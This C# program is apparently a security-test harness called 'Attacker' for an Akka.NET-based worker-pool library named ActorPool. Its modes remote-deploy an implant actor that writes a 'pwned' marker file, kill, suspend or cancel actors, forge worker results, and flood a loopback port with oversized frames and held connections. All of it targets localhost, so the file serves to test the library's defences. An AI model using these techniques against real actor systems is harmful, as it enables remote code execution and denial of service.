using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Text.Json;
using Akka.Actor;
using Akka.Configuration;

// A hostile local process (see Attacker.csproj). Modes:
//   deploy MARKER ADDRESS...  remote-deploys ActorPool's call-running actor into each ADDRESS with a secret of its own
//                             choosing, then asks it to write MARKER; prints "deployed ADDRESS" for each implant that
//                             registered back, then "outcome ran" if MARKER exists, else "outcome did not run".
//   poison ADDRESS PATH...    sends PoisonPill and Kill to each actor PATH at ADDRESS, by reference and by selection.
//   suspend ADDRESS PATH...   sends the system message Suspend to each actor PATH at ADDRESS (it would freeze it).
//   forge PROXY WORKER VALUE  sends the actor PROXY answers to calls 1-16, all VALUE, claiming to be the actor WORKER.
//   cancel STOPPER            sends the actor STOPPER (a worker's stop actor) requests to stop calls 1-16, with a
//                             guessed secret.
//   flood PORT BIG IDLE       opens BIG connections that announce a 136 MiB frame and send 64 KiB of it, and IDLE that
//                             send nothing; prints "holding" and keeps them open until stdin ends.
//   garbage PORT              sends 64 KiB of random bytes and closes.
// Exit code 0 after the attempt, whatever came of it; 2 for bad arguments.
return args switch
{
    ["deploy", var marker, .. var addresses] when addresses.Length > 0 => await Deploy(marker, addresses),
    ["poison", var address, .. var paths] when paths.Length > 0 => await Poison(address, paths),
    ["suspend", var address, .. var paths] when paths.Length > 0 => await Suspend(address, paths),
    ["forge", var proxy, var worker, var value] => await Forge(proxy, worker, int.Parse(value, CultureInfo.InvariantCulture)),
    ["cancel", var stopper] => await Cancel(stopper),
    ["flood", var port, var big, var idle] => Flood(int.Parse(port, CultureInfo.InvariantCulture), int.Parse(big, CultureInfo.InvariantCulture), int.Parse(idle, CultureInfo.InvariantCulture)),
    ["garbage", var port] => Garbage(int.Parse(port, CultureInfo.InvariantCulture)),
    _ => Usage(),
};

static int Usage()
{
    Console.Error.WriteLine("usage: Attacker deploy MARKER ADDRESS... | poison ADDRESS PATH... | suspend ADDRESS PATH... | forge PROXY WORKER VALUE | cancel STOPPER | flood PORT BIG IDLE | garbage PORT");
    return 2;
}

static async Task<int> Deploy(string marker, string[] addresses)
{
    using var system = ActorSystem.Create("attacker", SystemConfig(addresses[0]));
    var registered = new TaskCompletionSource<string>(TaskCreationOptions.RunContinuationsAsynchronously);
    var listener = system.ActorOf(Props.Create(() => new Listener(registered)), "listener");
    var listenerPath = listener.Path.ToStringWithAddress(((ExtendedActorSystem)system).Provider.DefaultAddress);
    var workerType = Internal("ActorPool.WorkerProcess.CallRunner");
    var implants = new List<IActorRef>();
    foreach (var address in addresses)
    {
        // CallRunner(parentPath, secret, replyKey, initializer, maxPayload, registrationToken, allowList, board): ours to choose.
        var props = Props.Create(workerType, listenerPath, "attacker-secret", "attacker-key", null, 1L << 20, null, null, null)
            .WithDeploy(new Deploy(new RemoteScope(Address.Parse(address))));
        implants.Add(system.ActorOf(props));
    }

    foreach (var implant in implants)
    {
        implant.Tell(WriteFileCall(marker), listener);
    }

    await Task.Delay(TimeSpan.FromSeconds(5));
    foreach (var path in Listener.Registered)
    {
        Console.WriteLine($"deployed {path}");
    }

    Console.WriteLine(File.Exists(marker) ? "outcome ran" : "outcome did not run");
    await system.Terminate();
    return 0;
}

static async Task<int> Poison(string address, string[] paths)
{
    using var system = ActorSystem.Create("attacker", SystemConfig(address));
    foreach (var path in paths)
    {
        var target = ActorPath.Parse(address + path);
        ((ExtendedActorSystem)system).Provider.ResolveActorRef(target).Tell(PoisonPill.Instance);
        ((ExtendedActorSystem)system).Provider.ResolveActorRef(target).Tell(Kill.Instance);
        system.ActorSelection(target).Tell(PoisonPill.Instance);
    }

    await Task.Delay(TimeSpan.FromSeconds(3)); // long enough for the association and the messages to go
    Console.WriteLine("sent");
    await system.Terminate();
    return 0;
}

static async Task<int> Suspend(string address, string[] paths)
{
    using var system = ActorSystem.Create("attacker", SystemConfig(address));
    foreach (var path in paths)
    {
        var target = (Akka.Actor.IInternalActorRef)((ExtendedActorSystem)system).Provider.ResolveActorRef(ActorPath.Parse(address + path));
        target.SendSystemMessage(new Akka.Dispatch.SysMsg.Suspend());
    }

    await Task.Delay(TimeSpan.FromSeconds(3));
    Console.WriteLine("sent");
    await system.Terminate();
    return 0;
}

static async Task<int> Forge(string proxy, string worker, int value)
{
    using var system = ActorSystem.Create("attacker", SystemConfig(proxy));
    var provider = ((ExtendedActorSystem)system).Provider;
    var itemType = Internal("ActorPool.Wire.ResultItem");
    // Answers and progress values for the first 16 call ids: none may reach a future without the worker's reply key.
    var items = Array.CreateInstance(itemType, 32);
    for (var id = 1; id <= 16; id++)
    {
        foreach (var progress in new[] { true, false })
        {
            items.SetValue(
                Activator.CreateInstance(itemType, (long)id, JsonSerializer.SerializeToUtf8Bytes(value), null, false, Enum.ToObject(Internal("ActorPool.Calls.StopReason"), 0), progress, false),
                (2 * (id - 1)) + (progress ? 0 : 1));
        }
    }

    var batch = Activator.CreateInstance(Internal("ActorPool.Wire.ResultBatch"), "a-guessed-key", items)!;
    provider.ResolveActorRef(proxy).Tell(batch, provider.ResolveActorRef(worker));
    await Task.Delay(TimeSpan.FromSeconds(3));
    Console.WriteLine("sent");
    await system.Terminate();
    return 0;
}

static async Task<int> Cancel(string stopper)
{
    using var system = ActorSystem.Create("attacker", SystemConfig(stopper));
    var target = ((ExtendedActorSystem)system).Provider.ResolveActorRef(stopper);
    for (var id = 1L; id <= 16; id++)
    {
        target.Tell(Activator.CreateInstance(Internal("ActorPool.Wire.CancelCall"), "a-guessed-secret", id)!);
    }

    await Task.Delay(TimeSpan.FromSeconds(3));
    Console.WriteLine("sent");
    await system.Terminate();
    return 0;
}

static int Flood(int port, int big, int idle)
{
    var sockets = new List<Socket>();
    var header = new byte[4];
    System.Buffers.Binary.BinaryPrimitives.WriteInt32LittleEndian(header, 136 << 20);
    var junk = new byte[64 << 10];
    for (var i = 0; i < big + idle; i++)
    {
        var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        try
        {
            socket.Connect(IPAddress.Loopback, port);
            if (i < big)
            {
                socket.Send(header);
                socket.Send(junk);
            }
        }
        catch (SocketException)
        {
            // refused or reset: the target decided; keep going
        }

        sockets.Add(socket);
    }

    Console.WriteLine($"holding {sockets.Count(s => s.Connected)}");
    Console.Out.Flush();
    while (Console.In.ReadLine() is not null)
    {
    }

    sockets.ForEach(s => s.Dispose());
    return 0;
}

static int Garbage(int port)
{
    using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
    socket.Connect(IPAddress.Loopback, port);
    var bytes = new byte[64 << 10];
    Random.Shared.NextBytes(bytes);
    try
    {
        socket.Send(bytes);
        Thread.Sleep(500);
    }
    catch (SocketException)
    {
        // closed on us
    }

    Console.WriteLine("sent");
    return 0;
}

// A call of File.WriteAllText(marker, "pwned") as ActorPool encodes one, with the attacker's own secret.
static object WriteFileCall(string marker)
{
    var describe = Internal("ActorPool.Wire.CallDescriptor").GetMethod("For", BindingFlags.Public | BindingFlags.Static)!;
    var descriptor = describe.Invoke(null, [(Action<string, string>)File.WriteAllText, "fn"]);
    byte[][] arguments = [JsonSerializer.SerializeToUtf8Bytes(marker), JsonSerializer.SerializeToUtf8Bytes("pwned")];
    return Activator.CreateInstance(Internal("ActorPool.Wire.CallItem"), "attacker-secret", 1L, descriptor, false, arguments, -1, Activator.CreateInstance(Internal("ActorPool.Wire.CallLimits")), default(System.Diagnostics.ActivityContext))!;
}

static Type Internal(string name) => typeof(ActorPool.Executor).Assembly.GetType(name, throwOnError: true)!;

// The transport the target speaks (ActorPool's loopback transport, with a key of this process's own, or DotNetty's
// TCP), and ActorPool's serializer, so the implant's registration could be read.
static Config SystemConfig(string address)
{
    var loopback = address.StartsWith("akka.loopback://", StringComparison.Ordinal);
    return ConfigurationFactory.ParseString($$"""
        akka.loglevel = ERROR
        akka.stdout-loglevel = ERROR
        akka.actor.provider = remote
        akka.actor.serializers.actorpool = "ActorPool.Wire.ProtocolSerializer, ActorPool"
        akka.actor.serialization-bindings { "ActorPool.Wire.IProcessPoolMessage, ActorPool" = actorpool }
        akka.remote.enabled-transports = [{{(loopback ? "\"akka.remote.loopback\"" : "\"akka.remote.dot-netty.tcp\"")}}]
        akka.remote.loopback {
          transport-class = "ActorPool.Transport.Loopback.LoopbackTransport, ActorPool"
          applied-adapters = []
          hostname = "127.0.0.1"
          port = 0
          maximum-frame-size = 136MiB
        }
        akka.remote.dot-netty.tcp { hostname = "127.0.0.1", port = 0, maximum-frame-size = 136MiB }
        """);
}

/// <summary>Where an implant would register (ActorPool's RegisterWorker) or answer.</summary>
internal sealed class Listener(TaskCompletionSource<string> registered) : UntypedActor
{
    public static readonly System.Collections.Concurrent.ConcurrentBag<string> Registered = [];

    protected override void OnReceive(object message)
    {
        if (message.GetType().Name == "RegisterWorker")
        {
            Registered.Add(Sender.Path.ToString());
            registered.TrySetResult(Sender.Path.ToString());
        }
    }
}
